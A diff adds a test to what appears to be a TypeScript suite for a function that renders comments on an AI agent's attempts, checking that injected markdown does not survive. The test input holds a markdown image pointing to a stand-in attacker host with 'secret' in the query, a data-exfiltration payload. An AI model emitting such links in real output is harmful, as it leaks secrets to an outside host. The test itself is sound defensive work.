@@ -151,6 +151,15 @@ describe("the comment about an attempt", () => {
   });
 });
 
+test("what is taken out before a fence does not let the fence begin", () => {
+  const said = "<!-- a -->\n~~~\n![x](https://evil.example/?secret)";
+  const made = madeAttempt().report;
+  if (made === undefined) throw new TypeError("the attempt has a report");
+  const attempt = madeAttempt({ report: { ...made, summary: said } });
+  const text = resultComment({ task: madeTask({ status: "new" }), attempt, receipts: [], tail: said }, { neutral });
+  expect(works(text)).toEqual([]);
+});
+
 test("no words of an agent's or a stranger's work in a comment, whatever they are", { timeout: 120_000 }, () => {
   const words = array(constantFrom(...SPOOFS), { minLength: 1, maxLength: 4 });
   assert(
